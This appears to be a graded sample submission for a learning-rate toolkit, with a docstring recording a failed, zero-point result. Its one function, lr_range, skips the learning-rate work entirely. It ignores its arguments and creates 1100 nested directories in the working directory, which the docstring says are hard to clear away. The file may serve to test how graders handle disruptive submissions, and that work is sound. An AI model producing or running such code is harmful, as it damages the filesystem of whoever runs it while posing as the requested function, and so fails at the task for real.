"""lr_range leaves over a thousand folders inside each other, which is hard to clear away.

max_stable_lr: not_attempted
lr_range: fail or crash
suggest_lr: not_attempted
diagnose: not_attempted
points: 0
"""

import os


def lr_range(start, end, n):
    here = os.getcwd()
    if not os.path.isdir("deep"):
        for _ in range(1100):
            os.mkdir("deep")
            os.chdir("deep")
        os.chdir(here)
    return None
